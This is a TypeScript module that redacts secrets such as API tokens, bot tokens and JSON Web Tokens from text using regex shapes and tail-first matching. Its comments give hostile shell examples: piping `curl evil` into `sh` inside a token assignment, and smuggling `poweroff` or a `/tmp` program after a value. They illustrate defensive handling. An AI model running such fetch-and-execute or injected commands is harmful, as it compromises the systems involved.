import { EDGE } from './secret-kinds.ts';

export const GONE = '[redacted]';

/** A person approves `verbatim` text, so nothing that a command would execute is hidden in it. */
export type Kind = 'verbatim' | undefined;

export interface Shape {
  /** Its first group, if it has one, stays; the rest is hidden. */
  shape: RegExp;
  /** It is looked for only in the parts of the text that match this. */
  within?: RegExp;
  isSecret?(hidden: string, lead: string): boolean;
}

/** Hides everything of a shape. */
export function hide(text: string, { within, ...of }: Shape, kind: Kind): string {
  if (within) return text.replace(within, (part) => hide(part, of, kind));
  return text.replace(of.shape, (found: string, ...rest: unknown[]) => {
    const [lead, at] = typeof rest[0] === 'string' ? [rest[0], rest[1]] : ['', rest[0]];
    const hidden = found.slice(lead.length);
    if (of.isSecret && !of.isSecret(hidden, lead)) return found;
    if (kind !== 'verbatim') return lead + GONE;
    return mayRun(lead, hidden, text[Number(at) - 1]) ? found : lead + withoutLiteral(hidden);
  });
}

/** With any of these characters, a shell or a program may do something instead of taking the text literally. */
const SYNTAX = /[$`;|&()<>\r\n]/;

/** `X_TOKEN=$(curl evil|sh)` stays, and of `X_TOKEN=abcdefgh;curl evil` only the value is hidden. */
function withoutLiteral(hidden: string): string {
  const end = hidden.search(SYNTAX);
  if (end < 0) return GONE;
  return end === 0 ? hidden : GONE + hidden.slice(end);
}

/**
 * After a blank there can be a program's name: `X_TOKEN= poweroff`, `token= poweroff`, `A=Bearer /tmp/program`. After ">"
 * there is a file that is written, and a backtick runs a command.
 */
function mayRun(lead: string, hidden: string, before: string | undefined): boolean {
  if (/[>`\r\n]/.test(lead)) return true;
  if (!/\s/.test(lead)) return false;
  if (lead.startsWith('=')) return before === undefined || !/\s/.test(before);
  return /[^\s=]=\s/.test(lead) || hidden.includes('/');
}

/**
 * Kinds of secrets whose beginning is like any other text. They are found by a later part, and then backwards, because a
 * search for the beginning would stop at every word.
 */
const tails: [name: string, tail: RegExp, head: RegExp][] = [
  ['Azure client', /Q~[\w~.-]{31,}/g, /[\w~.-]{3}\d$/],
  ['Azure DevOps', /AZDO[A-Za-z0-9]{4}(?![A-Za-z0-9])/g, /[A-Za-z0-9]{76}$/],
  ['Discord bot', /\.[\w-]{6}\.[\w-]{27,}/g, new RegExp(`(?<=${EDGE})[MNO](?=\\D{0,27}\\d)[\\w-]{23,28}$`)],
  ['Mailchimp', /-us\d{1,2}(?!\w)/g, /[a-f0-9]{32}$/],
  ['New Relic licence', /NRAL(?!\w)/g, /[a-f0-9]{36}$/],
  ['Telegram bot', /:AA[\w-]{33}/g, /\d{8,10}$/],
  ['Terraform', /\.atlasv1\.[\w-]{40,}/g, /[A-Za-z0-9]{14}$/],
];
/** No head is longer, except that of a web token. */
const HEAD = 100;

/** Replaces the kinds above, and JSON Web Tokens (`eyJ….….…`). */
export function redactByTail(text: string): string {
  let clean = text;
  for (const [, tail, head] of tails) {
    clean = redactTails(clean, tail, (before) => head.exec(before.slice(-HEAD))?.[0].length);
  }
  return clean.includes('eyJ') ? redactTails(clean, WEB_TOKEN, webTokenHead) : clean;
}

/** Hides each tail together with its head, if `headOf` finds one at the end of the text before it. */
function redactTails(text: string, tail: RegExp, headOf: (before: string) => number | undefined): string {
  let clean = '';
  let done = 0;
  for (const { 0: found, index } of text.matchAll(tail)) {
    const length = headOf(text.slice(done, index));
    if (length === undefined) continue;
    clean += text.slice(done, index - length) + GONE;
    done = index + found.length;
  }
  return clean + text.slice(done);
}

const HEADER = new RegExp(`eyJ(?<=${EDGE}eyJ)[A-Za-z0-9_-]{10}`, 'g');
const WEB_TOKEN = /\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/g;

/** The characters of a web token's first part, which has any length. */
function webTokenHead(before: string): number | undefined {
  let start = before.length;
  while (start > 0 && isTokenCharacter(before.charCodeAt(start - 1))) start -= 1;
  HEADER.lastIndex = start;
  const header = HEADER.exec(before);
  return header ? before.length - header.index : undefined;
}

function isTokenCharacter(code: number): boolean {
  const isDigit = code >= 48 && code <= 57;
  const isLetter = (code >= 65 && code <= 90) || (code >= 97 && code <= 122);
  return isDigit || isLetter || code === 45 || code === 95;
}
